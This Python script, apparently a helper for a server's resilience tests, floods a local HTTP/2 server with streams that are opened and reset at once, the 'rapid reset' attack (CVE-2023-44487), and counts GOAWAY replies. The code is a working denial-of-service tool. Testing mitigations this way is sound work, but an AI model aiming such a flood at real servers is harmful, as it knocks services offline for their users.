"""Opens HTTP/2 streams and resets each at once, as fast as one core permits ("rapid reset", CVE-2023-44487).

Called by rapid_reset.py as `reset_flood.py PORT AUTHORITY PATH STREAMS LEAST MOST`. Announces its start, then prints
JSON. A connection that is closed, or stalls for a second, is replaced by another, until STREAMS streams were sent and
LEAST seconds have passed, or until MOST seconds have passed.
"""

from __future__ import annotations

import json
import os
import socket
import ssl
import sys
import time

from hpack import Encoder, NeverIndexedHeaderTuple
from hyperframe.frame import GoAwayFrame, HeadersFrame, RstStreamFrame, SettingsFrame

AT_ONCE = 64
"""Number of streams in a write."""
CANCEL = 8


def main() -> None:
    port, authority, path = int(sys.argv[1]), sys.argv[2], sys.argv[3]
    streams, least, most = int(sys.argv[4]), float(sys.argv[5]), float(sys.argv[6])
    # Low priority: other processes on this core are measured.
    os.nice(10)
    context = ssl._create_unverified_context()
    context.set_alpn_protocols(["h2"])
    writes = blocks(authority, path, streams)
    sent = connections = farewells = 0
    print("begins", flush=True)
    began = time.monotonic()
    while (sent < streams or time.monotonic() - began < least) and time.monotonic() - began < most:
        connections += 1
        try:
            with socket.create_connection(("127.0.0.1", port), 5) as plain:
                with context.wrap_socket(plain, server_hostname="localhost") as secure:
                    opened, is_farewell = flood(secure, writes, began + most)
        except OSError:
            opened, is_farewell = 0, False
        sent += opened
        farewells += is_farewell
    json.dump({
        "streams": sent, "connections": connections, "farewells": farewells, "seconds": time.monotonic() - began},
        sys.stdout)


def blocks(authority: str, path: str, streams: int) -> list[bytes]:
    """Returns the bytes of a connection in pieces. Header fields are never indexed, so all pieces are alike."""
    fields = [(":method", "GET"), (":scheme", "https"), (":authority", authority), (":path", path)]
    section = Encoder().encode([NeverIndexedHeaderTuple(*field) for field in fields], huffman=False)
    pieces = []
    for first in range(0, streams, AT_ONCE):
        frames = bytearray()
        for number in range(first, first + AT_ONCE):
            stream = 2 * number + 1
            frames += HeadersFrame(stream, section, flags=["END_STREAM", "END_HEADERS"]).serialize()
            frames += RstStreamFrame(stream, CANCEL).serialize()
        pieces.append(bytes(frames))
    return pieces


def flood(secure: ssl.SSLSocket, writes: list[bytes], end: float) -> tuple[int, bool]:
    """Floods one connection. Returns the number of streams sent, and whether the peer sent GOAWAY."""
    secure.settimeout(1)
    secure.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize())
    sent, is_farewell = 0, False
    try:
        for piece in writes:
            secure.sendall(piece)
            sent += AT_ONCE
            secure.setblocking(False)
            try:
                while (data := secure.recv(65_536)):
                    is_farewell = is_farewell or has_farewell(data)
                return sent, is_farewell
            except ssl.SSLWantReadError:
                pass
            secure.settimeout(1)
            if is_farewell or time.monotonic() > end:
                break
    except OSError:
        pass
    return sent, is_farewell


def has_farewell(data: bytes) -> bool:
    """Returns whether the frames that begin here include GOAWAY. A read that begins within a frame can hide one; then
    the end of the connection is decisive."""
    at = 0
    while at + 9 <= len(data):
        if data[at + 3] == GoAwayFrame.type:
            return True
        at += 9 + int.from_bytes(data[at : at + 3], "big")
    return False


main()
